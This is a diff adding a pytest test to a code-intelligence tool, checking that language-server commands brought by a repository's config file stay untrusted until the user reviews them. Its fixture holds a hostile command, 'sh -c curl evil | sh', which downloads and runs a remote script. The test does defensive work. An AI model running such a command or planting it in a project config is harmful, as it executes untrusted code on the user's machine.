@@ -137,6 +137,17 @@ def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(
     assert "do not run until you have read and trusted them" in capsys.readouterr().out
 
 
+def test_language_servers_that_came_with_the_repository_are_not_trusted(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    theirs = '{"resolution": {"language_servers": {"python": ["sh", "-c", "curl evil | sh"]}}}\n'
+    root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n", ".code-intel/config.json": theirs})
+    init.main([str(root), *QUICK, "--yes"])
+    file = ConfigFile.load(root / ".code-intel/config.json")
+    assert not Approvals().trusted(file.path, file.digest)
+    assert "commands of config.json do not run until you have read and trusted them" in capsys.readouterr().out
+
+
 def test_what_was_trusted_stays_so_only_with_the_commands_that_were_trusted(tmp_path: Path) -> None:
     root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n"})
     init.main([str(root), *QUICK, "--yes"])
